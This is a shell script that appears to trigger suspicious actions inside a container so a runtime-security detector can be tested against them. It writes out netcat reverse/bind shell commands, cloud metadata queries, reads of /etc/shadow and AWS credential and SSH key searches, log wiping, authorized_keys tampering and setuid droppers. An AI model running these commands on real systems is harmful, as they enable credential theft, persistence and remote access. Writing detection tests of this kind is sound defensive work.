#!/bin/sh
# In a plain container, behind /go: suspicious actions, each on a stand-in of the container's own. By full paths, since busybox's shell else runs its own programs.
cd /

# Servers for what follows, on addresses that the container's loopback has.
for server in '203.0.113.5 4444 1' '10.96.0.1 443 1' '203.0.113.5 31000 1' '203.0.113.5 8080 2' '169.254.169.254 80 2' '203.0.113.5 443 1' \
    '203.0.113.77 3333 1' '10.1.2.3 5000 1'; do
    # shellcheck disable=SC2086 # words
    /usr/bin/act srv $server &
done
sleep 0.5
/usr/bin/act tcp 169.254.169.254 80 GET /latest/meta-data/
/bin/wget -q -O /dev/null http://169.254.169.254/
/usr/bin/act tcp 203.0.113.5 31000
/usr/bin/act dupnet 203.0.113.5 4444
/usr/bin/act tcp 203.0.113.77 3333
/usr/bin/act tcp 203.0.113.5 443
/usr/bin/act tcp 10.96.0.1 443
/usr/bin/act tcp 10.1.2.3 5000
/usr/bin/python3 tcp 203.0.113.5 8080
/usr/bin/act tcp 203.0.113.5 8080
/usr/bin/act udp 203.0.113.5 9999 , udpst 203.0.113.5 9998

# Tools.
/usr/bin/nc -lvp 1 -e /bin/sh
/usr/bin/nc -c sh x
/usr/bin/ncat --sh-exec /bin/sh x
/usr/bin/ncat -l 1
/usr/bin/nmap -sS x
/usr/bin/socat - -
/usr/bin/dig x
/usr/bin/apt-get update
/usr/bin/apk add x
/usr/bin/kubectl get pods
/usr/bin/rsync a b
/usr/bin/scp a b
/usr/bin/curl -o f http://x/
/bin/wget -q http://127.0.0.1:9/
/usr/bin/crontab -l
HTTP_PROXY=http://198.51.100.1:3128 /usr/bin/curl x
GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A /bin/true

# Files that are read and searched for.
/bin/cat /etc/shadow >/dev/null
/usr/bin/httpd x /usr/bin/act r /opt/../etc/../etc/shadow
/bin/find /home -name id_rsa >/dev/null
/bin/grep -r 'BEGIN RSA PRIVATE' /home >/dev/null
/bin/find /root -path '*/.aws/credentials' >/dev/null
/bin/grep aws_access_key_id /root/x >/dev/null
/bin/cat /proc/self/environ /proc/1/environ >/dev/null
/bin/base64 -d </dev/null
/bin/base64 --decode /etc/hostname >/dev/null
/usr/bin/act gid 1000 , uid 1000 , uid 0 , r /etc/shadow , x /bin/id , w /tmp/byuser , chmod 755 /tmp/byuser

# Traces, links, programs from nowhere, namespaces.
: >/var/log/syslog
/usr/bin/act sym /etc/shadow /tmp/l1 , ln /etc/shadow /tmp/h1
/usr/bin/act memfd
/usr/bin/act setns
/usr/bin/act unshare
/bin/cp /usr/bin/act /tmp/dropped
/bin/chmod 755 /tmp/dropped
/tmp/dropped true
/bin/cp /usr/bin/act /dev/shm/t
/dev/shm/t
/usr/bin/act chmod 4755 /tmp/dropped , chmodat 0711 /tmp/dropped , wx /tmp/newexe , creat /tmp/newexe2 , w /tmp/plain
/usr/bin/act selfw /tmp/sw

# A web server with a shell, a database with a program.
/usr/bin/httpd x /bin/sh -c id >/dev/null
/usr/bin/mysqld x /bin/ls / >/dev/null

# Files that are written.
/usr/bin/act w /usr/bin/newtool , w /etc/x.conf , w /root/f , w /rootf , w /lib/x.so , mv /usr/bin/newtool /usr/bin/newtool2 , mkdir /usr/bin/d , \
    rmdir /usr/bin/d , a /root/.profile , a /home/demo/.ssh/authorized_keys , mkdir /tmp/.hid , w /etc/cron.x , w /dev/lannerf
/bin/touch /root/.ash_history
/bin/rm /root/.ash_history
wait
